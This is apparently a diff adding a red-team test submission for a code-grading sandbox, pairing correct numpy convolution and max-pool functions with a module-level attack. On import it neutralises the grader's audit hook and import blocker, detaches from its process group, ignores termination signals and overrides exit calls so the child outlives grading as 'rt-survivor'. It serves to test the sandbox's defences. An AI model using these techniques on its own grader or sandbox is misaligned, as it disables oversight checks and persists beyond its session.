@@ -1,0 +1,246 @@
+"""Red team: make the sandbox child itself outlive its grading (and its zygote, and the grader).
+
+What it tries: switches the guards off, then `prctl(PR_SET_PDEATHSIG, 0)`,
+`prctl(PR_SET_NAME, "rt-survivor")`, `setsid()` and `setpgid(0, 0)` (so a kill
+of the old process group misses it), `prctl(PR_SET_CHILD_SUBREAPER)`,
+ignores SIGTERM/SIGHUP/SIGINT/SIGPIPE, and replaces `os._exit`, `sys.exit`,
+and the child's `serve` loop end so the child does not exit when the grader
+closes its pipes: it sleeps instead, in a non-daemon thread and in the main
+thread.  Functions are correct.
+
+Attack worked if: a process named `rt-survivor` or a sandbox child of this run
+is alive after the run.
+Targets: conv_layers.
+"""
+# redteam-assignment: conv_layers
+# redteam-expect: points<=33
+# redteam-setup: serial
+
+import os
+import signal
+import sys
+import threading
+import time
+
+def _disable_python_guards():
+    """Switch off the audit hook (swap its code for a no-op) and drop the import blocker."""
+    import gc, sys, types
+    done = []
+    for obj in gc.get_objects():
+        if type(obj) is types.FunctionType and obj.__closure__ and (
+                obj.__name__ == "hook" or {"refuse_read_of", "refuse_write_to"} & set(obj.__code__.co_freevars)):
+            names = obj.__code__.co_freevars
+            source = ("def outer():\n" + "".join(f"    {name} = None\n" for name in names)
+                      + "    def hook(event, args):\n        return (" + "".join(f"{name}, " for name in names)
+                      + ") and None\n    return hook\n")
+            namespace = {}
+            exec(source, namespace)
+            try:
+                obj.__code__ = namespace["outer"]().__code__
+                done.append("hook")
+            except Exception:
+                pass
+    for finder in list(sys.meta_path):
+        if type(finder).__name__ not in ("BuiltinImporter", "FrozenImporter", "PathFinder"):
+            try:
+                sys.meta_path.remove(finder)
+                done.append("meta_path")
+            except ValueError:
+                pass
+    return done
+
+import gc as _gc
+import sys as _sys
+import types as _types
+
+
+def _child_namespaces():
+    """The grader child's module globals (child.py runs as __main__), found through modules, frames and gc."""
+    found = []
+    main = _sys.modules.get("__main__")
+    if main is not None:
+        found.append(vars(main))
+    frame = _sys._getframe()
+    while frame is not None:
+        if frame.f_globals.get("__name__") != __name__:
+            found.append(frame.f_globals)
+        frame = frame.f_back
+    for obj in _gc.get_objects():
+        if type(obj) is dict and ("_fingerprint" in obj or "Kernel" in obj or "Channel" in obj):
+            found.append(obj)
+    unique = {}
+    for namespace in found:
+        unique[id(namespace)] = namespace
+    return list(unique.values())
+
+
+def _child_objects(*type_names):
+    """Live objects of the child whose class has one of these names (the Kernel, the Channel, ...)."""
+    return [obj for obj in _gc.get_objects() if type(obj).__name__ in type_names]
+
+
+def _child_functions(name):
+    return [obj for obj in _gc.get_objects() if type(obj) is _types.FunctionType and obj.__name__ == name
+            and obj.__globals__.get("__name__") != __name__]
+
+
+def _current_call_header():
+    """The header of the call being served (its seq), from the child's frames."""
+    frame = _sys._getframe()
+    while frame is not None:
+        header = frame.f_locals.get("header")
+        if isinstance(header, dict) and header.get("type") == "call":
+            return header
+        frame = frame.f_back
+    return {}
+
+
+def _reply_fd():
+    for channel in _child_objects("Channel"):
+        return channel.reply_fd
+    try:
+        return int(_sys.argv[2])
+    except (IndexError, ValueError):
+        pass
+    import os
+    for fd in sorted(int(name) for name in os.listdir("/proc/self/fd")):
+        try:
+            flags = int(open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
+            if fd > 2 and flags & 1 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
+                return fd
+        except Exception:
+            pass
+    return 4
+
+
+def _raw_frame(header_bytes, body=b""):
+    import struct
+    return struct.pack("<4sQQ", b"CAG1", len(header_bytes), len(body)) + header_bytes + body
+
+
+def _write_all(fd, data):
+    import os
+    view = memoryview(data)
+    while view.nbytes:
+        view = view[os.write(fd, view):]
+
+
+def _stay(*args, **kwargs):
+    while True:
+        time.sleep(3600)
+
+
+def _dig_in():
+    _disable_python_guards()
+    try:
+        import ctypes
+        libc = ctypes.CDLL(None)
+        libc.prctl(1, 0, 0, 0, 0)
+        libc.prctl(15, b"rt-survivor", 0, 0, 0)
+        libc.prctl(36, 1, 0, 0, 0)
+    except BaseException:
+        pass
+    for call in (os.setsid, lambda: os.setpgid(0, 0)):
+        try:
+            call()
+        except OSError:
+            pass
+    for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGPIPE"):
+        try:
+            signal.signal(getattr(signal, name), signal.SIG_IGN)
+        except (OSError, ValueError):
+            pass
+    os._exit = _stay
+    sys.exit = _stay
+    for namespace in _child_namespaces():
+        if "os" in namespace and hasattr(namespace["os"], "_exit"):
+            namespace["os"]._exit = _stay
+    threading.Thread(target=_stay, daemon=False).start()
+
+
+_dig_in()
+
+import numpy as np  # noqa: E402
+
+
+# --- honest implementations (copied from examples/conv_layers/correct.py) ---
+
+def zero_pad(x, pad):
+    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)), mode="constant")
+
+
+def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
+    span = dilation * (filter_size - 1) + 1
+    room = in_size - span + 2 * pad
+    if room < 0 or room % stride != 0:
+        raise ValueError(f"filter does not fit: ({in_size} - {span} + 2*{pad}) / {stride} + 1")
+    return room // stride + 1
+
+
+def conv_param_count(in_channels, num_filters, filter_size, bias=True):
+    if isinstance(filter_size, tuple):
+        height, width = filter_size
+    else:
+        height = width = filter_size
+    return num_filters * (height * width * in_channels + (1 if bias else 0))
+
+
+def conv_forward_naive(x, w, b, conv_param):
+    stride, pad = conv_param["stride"], conv_param["pad"]
+    N, C, H, W = x.shape
+    F, _, HH, WW = w.shape
+    H_out = 1 + (H + 2 * pad - HH) // stride
+    W_out = 1 + (W + 2 * pad - WW) // stride
+    x_pad = zero_pad(x, pad)
+    out = np.zeros((N, F, H_out, W_out))
+    for i in range(H_out):
+        for j in range(W_out):
+            window = x_pad[:, :, i * stride : i * stride + HH, j * stride : j * stride + WW]
+            out[:, :, i, j] = np.tensordot(window, w, axes=([1, 2, 3], [1, 2, 3])) + b
+    cache = (x, w, b, conv_param)
+    return out, cache
+
+
+def conv_backward_naive(dout, cache):
+    x, w, b, conv_param = cache
+    stride, pad = conv_param["stride"], conv_param["pad"]
+    HH, WW = w.shape[2:]
+    H_out, W_out = dout.shape[2:]
+    x_pad = zero_pad(x, pad)
+    dx_pad = np.zeros_like(x_pad)
+    dw = np.zeros_like(w)
+    db = dout.sum(axis=(0, 2, 3))
+    for i in range(H_out):
+        for j in range(W_out):
+            rows = slice(i * stride, i * stride + HH)
+            cols = slice(j * stride, j * stride + WW)
+            dw += np.tensordot(dout[:, :, i, j], x_pad[:, :, rows, cols], axes=([0], [0]))
+            dx_pad[:, :, rows, cols] += np.tensordot(dout[:, :, i, j], w, axes=([1], [0]))
+    dx = dx_pad[:, :, pad : pad + x.shape[2], pad : pad + x.shape[3]]
+    return dx, dw, db
+
+
+def max_pool_forward_naive(x, pool_param):
+    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
+    N, C, H, W = x.shape
+    H_out = 1 + (H - ph) // stride
+    W_out = 1 + (W - pw) // stride
+    out = np.zeros((N, C, H_out, W_out))
+    for i in range(H_out):
+        for j in range(W_out):
+            out[:, :, i, j] = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw].max(axis=(2, 3))
+    cache = (x, pool_param)
+    return out, cache
+
+
+def max_pool_backward_naive(dout, cache):
+    x, pool_param = cache
+    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
+    dx = np.zeros_like(x)
+    for i in range(dout.shape[2]):
+        for j in range(dout.shape[3]):
+            window = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw]
+            mask = window == window.max(axis=(2, 3), keepdims=True)
+            dx[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw] += mask * dout[:, :, i, j][:, :, None, None]
+    return dx
+
